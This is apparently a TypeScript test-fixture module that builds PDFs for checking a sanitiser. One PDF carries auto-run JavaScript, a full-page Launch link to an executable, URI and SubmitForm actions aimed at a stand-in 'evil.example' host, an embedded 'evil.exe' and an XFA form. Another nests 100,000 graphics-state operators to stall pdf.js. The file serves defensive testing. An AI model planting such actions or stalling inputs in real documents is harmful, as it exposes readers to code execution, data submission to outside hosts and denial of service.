// Builds PDFs that carry active content (scripts, launch and submit actions, an embedded
// executable, an XFA form) and odd-but-valid shapes (several incremental updates), at test time.
import { readFileSync, writeFileSync } from 'node:fs';
import { PDFArray, PDFDocument, PDFName, PDFRef, PDFString, StandardFonts, type PDFDict } from '../../electron/core/pdf/pdf-lib';
import { qpdf } from './pdf-tools';

/** Marker strings a test looks for in the print: none may survive. */
export const hostileMarkers = {
  openActionScript: 'app.alert("OPENACTION-SCRIPT")',
  namedScript: 'app.alert("NAMED-SCRIPT")',
  pageScript: 'app.alert("PAGE-OPEN-SCRIPT")',
  launchTarget: 'calc-LAUNCH.exe',
  uri: 'https://evil.example/URI-ACTION',
  submitTarget: 'https://evil.example/SUBMIT-ACTION',
  embeddedFile: 'evil.exe',
  embeddedPayload: 'MZ-EVIL-PAYLOAD',
  xfa: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">XFA-FORM</xdp:xdp>',
};

/**
 * One page of visible text plus: an OpenAction JavaScript, a named JavaScript, a page-open (/AA)
 * script, a full-page Launch link, a URI link, a SubmitForm widget, an embedded evil.exe (in the
 * EmbeddedFiles name tree and as a file-attachment annotation) and an XFA form.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  page.drawText('Body page 1 of a hostile file', { x: 72, y: 600, size: 18, font });
  const ctx = doc.context;
  const js = (code: string) => ctx.obj({ Type: 'Action', S: 'JavaScript', JS: ctx.register(ctx.stream(code)) });

  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js(hostileMarkers.openActionScript)));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(js(hostileMarkers.pageScript)) }));

  const exe = ctx.register(ctx.stream(hostileMarkers.embeddedPayload, { Type: 'EmbeddedFile' }));
  const fileSpec = ctx.register(ctx.obj({ Type: 'Filespec', F: PDFString.of(hostileMarkers.embeddedFile), UF: PDFString.of(hostileMarkers.embeddedFile), EF: { F: exe } }));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: { Names: [PDFString.of('start'), ctx.register(js(hostileMarkers.namedScript))] },
      EmbeddedFiles: { Names: [PDFString.of(hostileMarkers.embeddedFile), fileSpec] },
    }),
  );

  const annotation = (dict: Record<string, unknown>) => ctx.register(ctx.obj({ Type: 'Annot', ...dict } as never) as unknown as PDFDict);
  const launch = annotation({ Subtype: 'Link', Rect: [0, 0, 612, 792], Border: [0, 0, 0], A: { S: 'Launch', F: PDFString.of(hostileMarkers.launchTarget) } });
  const uri = annotation({ Subtype: 'Link', Rect: [72, 500, 300, 520], A: { S: 'URI', URI: PDFString.of(hostileMarkers.uri) } });
  const attachment = annotation({ Subtype: 'FileAttachment', Rect: [72, 400, 90, 420], FS: fileSpec, Contents: PDFString.of(hostileMarkers.embeddedFile) });
  const submit = annotation({ Subtype: 'Widget', FT: 'Btn', Ff: 65536, T: PDFString.of('send'), Rect: [72, 300, 200, 330], A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(hostileMarkers.submitTarget) } } });
  page.node.set(PDFName.of('Annots'), ctx.obj([launch, uri, attachment, submit]));
  const xfa = ctx.register(ctx.stream(hostileMarkers.xfa));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [submit], XFA: xfa, NeedsRendering: true }));
  return doc.save({ useObjectStreams: false });
}

/** Whether a print still holds any hostile marker anywhere in its bytes (streams decoded by qpdf). */
export function hostileMarkersIn(qdfText: string): string[] {
  return Object.entries(hostileMarkers)
    .filter(([, marker]) => qdfText.includes(marker))
    .map(([name]) => name);
}

/** How the updates of incrementallyUpdatedPdf are written. */
export interface UpdateStructure {
  /** Where page 1's /Contents array lives: in the page (a new page object each update) or as its own object, updated in place. */
  contentsArray?: 'in-page' | 'own-object';
  /** Each update's cross-reference as a stream (PDF 1.5) instead of a classic table. */
  xrefStreams?: boolean;
  /** The original file (before the updates) packs its objects into object streams, as qpdf writes it. */
  objectStreamBase?: boolean;
}

/**
 * A clean file that went through several incremental updates, as editors write them: each update
 * gives page 1's /Contents array another stream, chained to the file before it by /Prev.
 */
export async function incrementallyUpdatedPdf(path: string, updates = 3, structure: UpdateStructure = {}): Promise<void> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  doc.addPage([612, 792]).drawText('Body page 1 before updates', { x: 72, y: 700, size: 16, font });
  doc.addPage([612, 792]).drawText('Body page 2 before updates', { x: 72, y: 700, size: 16, font });
  writeFileSync(path, await doc.save({ useObjectStreams: false }));
  if (structure.objectStreamBase) qpdf('--object-streams=generate', '--replace-input', path);
  for (let n = 1; n <= updates; n++) {
    const bytes = readFileSync(path);
    const updated = await PDFDocument.load(bytes);
    const snapshot = updated.takeSnapshot();
    const page = updated.getPage(0);
    const context = updated.context;
    const extra = context.register(context.stream(`BT /F1 12 Tf 72 ${600 - n * 20} Td (Update ${n}) Tj ET`));
    const contents = page.node.get(PDFName.of('Contents'));
    const resolved = context.lookup(contents);
    const items: PDFRef[] = [];
    if (resolved instanceof PDFArray) for (const item of resolved.asArray()) items.push(item as PDFRef);
    else items.push(contents as PDFRef);
    if (structure.contentsArray === 'own-object' && contents instanceof PDFRef && resolved instanceof PDFArray) {
      resolved.push(extra);
      snapshot.markRefForSave(contents);
    } else {
      const array = context.obj([...items, extra]);
      page.node.set(PDFName.of('Contents'), structure.contentsArray === 'own-object' ? context.register(array) : array);
      snapshot.markRefForSave(page.ref);
    }
    const update = await updated.saveIncremental(snapshot, { useObjectStreams: structure.xrefStreams ?? false });
    writeFileSync(path, Buffer.concat([bytes, update]));
  }
  // Normalise through qpdf without rewriting: keep the updates, check it passes clean.
  qpdf('--check', path);
}

/** A small PDF whose one page nests 100,000 `q` operators around its text: pdf.js walks them for minutes. */
export async function deeplyNestedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  page.drawText('Nested body', { x: 72, y: 700, size: 12, font });
  const depth = 100_000;
  const nested = doc.context.register(doc.context.flateStream(`${'q 1 0 0 1 0 0 cm '.repeat(depth)}BT /F1 12 Tf 72 600 Td (deep) Tj ET ${'Q '.repeat(depth)}`));
  const contents = page.node.get(PDFName.of('Contents'));
  page.node.set(PDFName.of('Contents'), doc.context.obj([contents!, nested]));
  return doc.save();
}
